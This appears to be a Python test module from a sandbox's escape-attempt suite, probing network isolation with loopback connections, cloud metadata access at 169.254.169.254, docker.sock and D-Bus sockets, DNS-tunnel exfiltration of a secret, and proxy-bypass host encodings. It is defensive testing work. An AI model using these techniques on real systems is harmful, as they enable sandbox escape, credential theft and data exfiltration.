"""Attempts 23-30: at the network."""

# ruff: noqa: E501  (the attempts are data)

from __future__ import annotations

from arena import LIMITS, SECRET, Arena, attempt

from openk2.sandbox.box import Box, NoBoundary
from openk2.sandbox.policy import Policy


@attempt(23, "Network", "TCP to a server on the host's loopback")
def _(arena: Arena) -> str:
    before = len(arena.listener.heard)
    arena.run("attempt('tcp', lambda: socket.create_connection(WHERE, 1).send(b'x'))", WHERE=arena.listener.tcp)
    return arena.listener.since(before)


@attempt(24, "Network", "UDP to a server on the host's loopback")
def _(arena: Arena) -> str:
    before = len(arena.listener.heard)
    arena.run("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', WHERE)", WHERE=arena.listener.udp)
    return arena.listener.since(before)


@attempt(25, "Network", "the cloud's metadata at 169.254.169.254, a public address")
def _(arena: Arena) -> str:
    code = """
if not BOXED:  # in a network namespace of its own, where the address can be given to a server
    os.system("ip link set lo up; ip addr add 169.254.169.254/32 dev lo; ip addr add 1.1.1.1/32 dev lo")
    servers = [socket.create_server((host, 80)) for host in HOSTS]
for host in HOSTS:
    attempt(host, lambda: socket.create_connection((host, 80), 1).fileno())
"""
    wrapper = ("unshare", "-n") if arena.root else ("unshare", "-Urn")
    return arena.got(code, wrapper=wrapper, HOSTS=["169.254.169.254", "1.1.1.1"])


@attempt(26, "Network", "an abstract Unix socket of the host")
def _(arena: Arena) -> str:
    before = len(arena.listener.heard)
    code = """
attempt("socket", lambda: (s := socket.socket(socket.AF_UNIX), s.connect(WHERE), s.send(b"x")))
attempt("pair", lambda: socket.socketpair()[0].connect(WHERE))
"""
    arena.run(code, WHERE=arena.listener.abstract)
    return arena.listener.since(before)


@attempt(27, "Network", "a Unix socket with a name (docker.sock, X11, D-Bus)")
def _(arena: Arena) -> str:
    before = len(arena.listener.heard)
    code = """
attempt("stream", lambda: (s := socket.socket(socket.AF_UNIX), s.connect(STREAM), s.send(b"x")))
attempt("datagram", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", DATAGRAM))
attempt("pair", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", DATAGRAM))
"""
    arena.run(code, STREAM=arena.listener.path, DATAGRAM=arena.listener.datagrams)
    return arena.listener.since(before)


@attempt(28, "Network", "vsock, netlink, raw, packet, SCTP, Bluetooth sockets")
def _(arena: Arena) -> str:
    code = """
KINDS = {"vsock": (40, 1, 0), "netlink": (16, 3, 0), "raw": (2, 3, 1), "packet": (17, 3, 0), "alg": (38, 5, 0),
         "ping": (2, 2, 1), "mptcp": (2, 1, 262), "bluetooth": (31, 3, 1), "udp6": (10, 2, 0), "tcp": (2, 1, 0)}
for name, kind in KINDS.items():
    attempt(name, lambda: socket.socket(*kind).fileno())
"""
    return arena.got(code)


@attempt(29, "Network", "data carried out in DNS questions")
def _(arena: Arena) -> str:
    before = len(arena.listener.heard)
    code = """
question = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + bytes([len(SECRET)]) + SECRET.encode() + b"\\x07example\\0\\0\\x01\\0\\x01"
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, UDP))
attempt("tcp", lambda: socket.create_connection(TCP, 1).send(question))
if BOXED:
    attempt("resolver", lambda: socket.getaddrinfo(SECRET + ".example.com", 80))
"""
    arena.run(code, UDP=arena.listener.udp, TCP=arena.listener.tcp)
    return arena.listener.since(before) if SECRET in arena.listener.since(before) else ""


@attempt(30, "Network", "around the proxy: NUL, IPv6-mapped, decimal, hex, loopback names, other servers")
def _(arena: Arena) -> str:
    before = len(arena.listener.heard)
    port = arena.listener.tcp[1]
    code = """
HOSTS = ["127.0.0.1", "localhost", "localhost.", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "[::ffff:127.0.0.1]",
         "[::1]", "0", "[::]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "1.1.1.1\\0.127.0.0.1", "127.0.0.1%00.example.com",
         "user@127.0.0.1", "127.0.0.1#.example.com", "127。0。0。1"]
def through(line):
    with socket.create_connection(("127.0.0.1", 3128), 2) as proxy:
        proxy.sendall(line + b"\\r\\nHost: example.com\\r\\n\\r\\n" + b"x" * 10)
        return proxy.recv(100).startswith(b"HTTP/1.1 200")
for host in HOSTS:
    if BOXED:
        for where in (host, f"{host}:{PORT}"):
            attempt(where, lambda: through(b"CONNECT " + where.encode() + b" HTTP/1.1"))
            attempt(where, lambda: through(b"GET http://" + where.encode() + b"/ HTTP/1.1"))
    attempt(host, lambda: socket.create_connection((host.strip("[]"), PORT), 1).send(b"x"))
"""
    if not arena.boxed:
        arena.run(code, PORT=port)
        return arena.listener.since(before)
    limits = Policy(**{**{name: getattr(LIMITS, name) for name in LIMITS.__slots__}, "network": "public"})
    try:
        with Box(arena.base / "net" / "workspace", limits, arena.tier) as box:
            first = arena.box
            arena.box = box
            try:
                got = arena.got(code, 20.0, PORT=port)
            finally:
                arena.box = first
    except NoBoundary:  # a tier without a network of its own opens none
        return ""
    return got + arena.listener.since(before)


